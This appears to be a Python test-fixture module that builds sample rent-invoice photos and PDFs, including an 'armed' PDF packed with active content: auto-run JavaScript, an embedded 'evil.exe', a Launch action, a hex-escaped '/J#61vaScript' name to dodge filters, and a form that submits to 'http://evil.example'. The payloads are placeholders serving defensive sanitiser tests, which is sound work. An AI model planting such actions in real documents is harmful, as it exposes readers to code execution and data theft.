"""Papers made for the tests: a rent invoice as a photo would show it, and PDFs of one's own and of somebody worse."""

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

from pikepdf import Array, Dictionary, Name, Object, Pdf, Stream, StreamDecodeLevel, String
from PIL import Image, ImageDraw, ImageEnhance, ImageFilter, ImageFont

HEIC = (Path(__file__).parents[2] / "data" / "paper.heic").read_bytes()
"""A made invoice, as a telephone would save it: 900 by 1200, with a maker's name and a place on earth in it."""

LINE = "Hyra december 2026: 5 850 kr, Exempelgatan 1"


def invoice(width: int = 1240, height: int = 1754, lines: int = 40) -> Image.Image:
    """A white page with dark lines of text."""
    page = Image.new("RGB", (width, height), (245, 245, 245))
    pen, font = ImageDraw.Draw(page), ImageFont.load_default(width // 45)
    for line in range(lines):
        pen.text((width // 12, height // 20 + line * width // 36), LINE, fill=(25, 25, 25), font=font)
    return page


def blurred(page: Image.Image) -> Image.Image:
    """The telephone moved, or was too near: no letter can be told from another."""
    return page.filter(ImageFilter.GaussianBlur(page.width / 250))


def in_the_dark(page: Image.Image) -> Image.Image:
    """In the kitchen with the lamp off, as sharp as ever."""
    return ImageEnhance.Brightness(page).enhance(0.15)


def on_a_table(page: Image.Image) -> Image.Image:
    """The page fills a part of the photo and lies askew."""
    table = Image.new("RGB", (page.width * 2, page.height * 2), (70, 50, 40))
    table.paste(page.rotate(6, expand=True, fillcolor=(70, 50, 40)), (page.width // 3, page.height // 3))
    return table


def saved(page: Image.Image, format_: str = "JPEG", **how: Any) -> bytes:
    written = io.BytesIO()
    page.save(written, format_, **how)
    return written.getvalue()


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(content))


def pdf(pages: int = 1, change: Callable[[Pdf], None] | None = None, **how: Any) -> bytes:
    """A PDF of so many empty pages, changed by ``change``."""
    made = Pdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    written = io.BytesIO()
    made.save(written, **how)
    return written.getvalue()


def packed(content: bytes, *filters: str) -> bytes:
    """A PDF whose page is drawn by a stream that says how it is packed."""

    def draw(made: Pdf) -> None:
        stream = Stream(made, b"")
        names = [Name(f"/{one}") for one in filters]
        stream.write(content, filter=names[0] if len(names) == 1 else Array(names), type_check=False)
        made.pages[0].Contents = made.make_indirect(stream)

    return pdf(change=draw, stream_decode_level=StreamDecodeLevel.none, compress_streams=False)


def armed(made: Pdf) -> None:
    """Everything a PDF can do to whoever opens it, and three harmless things: an address, a field, a way to a page."""

    def link(action: Object) -> Object:
        return made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action))

    script = made.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('evil')")))
    program = made.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=made.make_stream(b"MZ evil")))
    )
    root, page = made.Root, made.pages[0]
    root.OpenAction, root.AA, page.AA = script, Dictionary(WC=script), Dictionary(O=script)
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), program])),
        Dests=Dictionary(Names=Array([String("sum"), Array([page.obj, Name.Fit])])),
    )
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("rent"),
        V=String("5850"),
        AA=Dictionary(K=script),
        A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example")),
    )
    page.Annots = Array(
        [
            link(Dictionary(S=Name.URI, URI=String("https://landlord.example"))),
            link(Dictionary(S=Name.GoTo, D=String("sum"), Next=Array([script]))),
            link(Dictionary(S=Name.Launch, F=String("evil.exe"))),
            link(Dictionary(S=Name.URI, URI=String("javascript:evil()"))),
            link(Dictionary(S=Name("/J#61vaScript"), JS=String("evil()"))),
            made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=program)),
            made.make_indirect(field),
        ]
    )
    root.AcroForm = Dictionary(Fields=Array([page.Annots[6]]), XFA=made.make_stream(b"<evil/>"))


def laid_open(content: bytes) -> bytes:
    """A PDF as text, every stream unpacked."""
    written = io.BytesIO()
    with Pdf.open(io.BytesIO(content)) as read:
        read.save(written, qdf=True)
    return written.getvalue()
